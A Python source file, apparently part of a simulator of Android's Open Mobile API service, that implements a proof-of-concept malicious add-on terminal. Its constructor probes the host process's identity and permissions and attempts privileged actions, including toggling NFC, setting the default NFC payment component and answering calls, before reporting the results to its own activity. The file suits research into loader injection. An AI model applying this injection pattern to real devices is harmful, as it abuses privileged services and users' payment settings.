"""
The proof-of-concept add-on terminal.

Its constructor is where the injected code lives: it looks at the identity
it finds itself running under, probes what that identity may do, lists
the smartcard readers through the client API, and hands the findings to
its own package's result activity (the report sink). After that it is an
ordinary, useless terminal named EXPLOIT01.
"""

from __future__ import annotations

import hashlib
import logging
import re
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from . import errors
from .discovery import DEFAULT_REGISTRY
from .sandbox import PERMISSIONS, PermissionResult, SandboxError, current_identity
from .vse import ECHO_AID

log = logging.getLogger(__name__)

EXPLOIT_PACKAGE = "org.simalliance.openmobileapi.service.terminals.exploit"
EXPLOIT_ENTRY = "ExploitTerminal"
MAIN_ACTIVITY = EXPLOIT_PACKAGE + ".activities.MainActivity"
EXPLOIT_NAME = "EXPLOIT01"
EXPLOIT_UID = bytes((0x12, 0x34, 0x56, 0x78))
EXPLOIT_SIGNATURE = hashlib.sha1(b"omapisim third-party key: " + EXPLOIT_PACKAGE.encode()).digest()

# probes whose denial text is shown under the result line
_DETAILED = ("wss_api", "secure_setting", "mps_api")


@dataclass
class ProbeOutcome:
    ok: bool
    error: Optional[str] = None


@dataclass
class ContextReport:
    package_name: str
    user_id: int
    user_name: str
    process_id: int
    process_name: str
    thread_id: int
    process_package_names: List[str]
    granted_permissions: List[str]
    probes: Dict[str, ProbeOutcome] = field(default_factory=dict)
    readers: Optional[List[str]] = None
    readers_error: Optional[str] = None
    channel_results: List[Tuple[str, bool, Optional[str]]] = field(default_factory=list)
    delivered_to: Optional[str] = None


PROBE_LABELS = (
    ("internet", "Has internet connectivity?"),
    ("external_storage", "Can write external storage?"),
    ("wss_api", "Can access API protected with WRITE_SECURE_SETTINGS permission?"),
    ("secure_setting", "Can access write to Settings.Secure?"),
    ("mps_api", "Can access API protected with MODIFY_PHONE_STATE permission?"),
)


def _attempt(fn, *args) -> ProbeOutcome:
    try:
        fn(*args)
    except SandboxError as exc:
        return ProbeOutcome(False, f"java.lang.SecurityException: {exc}")
    return ProbeOutcome(True)


def probe_context(context) -> ContextReport:
    """Who are we, and what may we do?"""
    ident = current_identity()
    pm = context.get_package_manager()
    granted = sorted(p for p in PERMISSIONS
                     if context.check_permission(p, ident.pid, ident.uid) is PermissionResult.GRANTED)
    report = ContextReport(
        package_name=context.get_package_name(),
        user_id=ident.uid,
        user_name=pm.get_name_for_uid(ident.uid),
        process_id=ident.pid,
        process_name=ident.process_name,
        thread_id=ident.tid,
        process_package_names=pm.get_packages_for_uid(ident.uid),
        granted_permissions=granted,
    )
    system = context.system_services
    report.probes["internet"] = _attempt(system.open_socket, ident)
    report.probes["external_storage"] = _attempt(system.write_external_storage, ident,
                                                 "exploit/probe.txt", b"probe")
    # turning NFC on is guarded by WRITE_SECURE_SETTINGS
    report.probes["wss_api"] = _attempt(system.toggle_nfc, ident, True)
    report.probes["secure_setting"] = _attempt(system.write_secure_setting, ident,
                                               "nfc_payment_default_component", EXPLOIT_PACKAGE)
    report.probes["mps_api"] = _attempt(system.answer_ringing_call, ident)
    return report


def _describe(exc: Exception) -> str:
    return f"{type(exc).__name__}: {exc}"


def probe_omapi(client, report: ContextReport, aid: bytes = ECHO_AID) -> Optional[List[str]]:
    """List readers and try to reach ``aid`` on each one."""
    try:
        readers = client.list_readers()
    except errors.OmapiError as exc:
        report.readers_error = _describe(exc)
        return None
    report.readers = list(readers)
    for name in readers:
        try:
            session = client.open_session(name)
        except errors.OmapiError as exc:
            report.channel_results.append((name, False, _describe(exc)))
            continue
        try:
            channel, _ = client.open_channel(session, aid)
        except errors.OmapiError as exc:
            report.channel_results.append((name, False, _describe(exc)))
        else:
            report.channel_results.append((name, True, None))
            client.close_channel(channel)
        finally:
            client.close_session(session)
    return report.readers


def _flag(value: bool) -> str:
    return "true" if value else "false"


def format_report(report: ContextReport) -> str:
    lines = [
        f"Package name: {report.package_name}",
        f"User ID: {report.user_id}",
        f"User name: {report.user_name}",
        f"Process ID: {report.process_id}",
        f"Process name: {report.process_name}",
        f"Thread ID: {report.thread_id}",
        "Process package names:",
    ]
    lines += [f"  {p}" for p in report.process_package_names]
    lines.append("Granted permissions:")
    lines += [f"  {p}" for p in report.granted_permissions]
    for key, label in PROBE_LABELS:
        outcome = report.probes.get(key)
        if outcome is None:
            continue
        lines.append(f"{label} {_flag(outcome.ok)}")
        if key in _DETAILED and outcome.error:
            lines.append(f"  {outcome.error}")
    if report.readers is None:
        lines.append("Open Mobile API readers: unavailable")
        if report.readers_error:
            lines.append(f"  {report.readers_error}")
    else:
        lines.append("Open Mobile API readers:")
        lines += [f"  {r}" for r in report.readers]
        for name, ok, detail in report.channel_results:
            lines.append(f"Can open channel to {name}? {_flag(ok)}")
            if detail:
                lines.append(f"  {detail}")
    if report.delivered_to:
        lines.append(f"Delivered to activity: {report.delivered_to}")
    return "\n".join(lines) + "\n"


_PID_RE = re.compile(r"^(Process ID|Thread ID): \d+$", re.MULTILINE)


def normalize_report(text: str) -> str:
    """Blank out the pid and tid values, which differ run to run."""
    return _PID_RE.sub(lambda m: f"{m.group(1)}: <{'pid' if m.group(1)[0] == 'P' else 'tid'}>", text)


_LIST_LABELS = ("Process package names", "Granted permissions", "Open Mobile API readers")


def parse_report(text: str) -> dict:
    """Label -> value for the report's lines; list sections map to lists of their items."""
    out: dict = {}
    current: Optional[str] = None
    last: Optional[str] = None
    for line in text.splitlines():
        if not line.strip():
            continue
        if line.startswith("  "):
            item = line.strip()
            if current is not None:
                out[current].append(item)
            elif last is not None:
                out.setdefault(last + " detail", []).append(item)
            continue
        current = None
        if "?" in line:
            label, _, value = line.partition("?")
            last = label.strip() + "?"
            out[last] = value.strip()
            continue
        label, _, value = line.partition(":")
        label, value = label.strip(), value.strip()
        last = label
        if label in _LIST_LABELS and value == "":
            out[label] = []
            current = label
        else:
            out[label] = value
    return out


class ExploitTerminal:
    """An add-on terminal whose constructor carries the payload."""

    def __init__(self, context):
        self.context = context
        self.report = probe_context(context)
        self.connected = False
        try:
            context.bind_se_service(self._service_connected)
        except Exception as exc:  # noqa: BLE001 - still deliver what we have
            self.report.readers_error = _describe(exc)
            self._deliver()

    def _service_connected(self, client) -> None:
        if isinstance(client, Exception):
            self.report.readers_error = _describe(client)
        else:
            try:
                probe_omapi(client, self.report)
            except Exception as exc:  # noqa: BLE001 - recorded, never raised into the loader
                self.report.readers_error = _describe(exc)
            finally:
                close = getattr(client, "close", None)
                if close is not None:
                    close()
        self._deliver()

    def _deliver(self) -> None:
        self.report.delivered_to = MAIN_ACTIVITY
        try:
            self.context.start_activity(EXPLOIT_PACKAGE, MAIN_ACTIVITY, format_report(self.report))
        except Exception:  # noqa: BLE001
            log.exception("report delivery failed")

    # -- the terminal itself --------------------------------------------
    def get_name(self) -> str:
        return EXPLOIT_NAME

    def get_type(self) -> str:
        return "EXPLOIT"

    def is_card_present(self) -> bool:
        return True

    def internal_connect(self) -> None:
        self.connected = True

    def internal_disconnect(self) -> None:
        self.connected = False

    def get_atr(self) -> Optional[bytes]:
        return b""

    def internal_open_logical_channel(self) -> int:
        raise errors.ResourceUnavailable("no logical channel available")

    def internal_open_logical_channel_with_aid(self, aid: bytes) -> int:
        raise errors.ResourceUnavailable("no logical channel available")

    def get_select_response(self) -> Optional[bytes]:
        return None

    def internal_transmit(self, command: bytes) -> bytes:
        return bytes((0x6F, 0x00))

    def internal_close_logical_channel(self, channel: int) -> None:
        pass

    def is_channel_can_be_established(self) -> bool:
        return False

    def set_calling_package_info(self, package_name: str, user_id: int, process_id: int) -> None:
        pass

    def internal_get_uid(self) -> Optional[bytes]:
        return EXPLOIT_UID


DEFAULT_REGISTRY.register(EXPLOIT_ENTRY, ExploitTerminal)
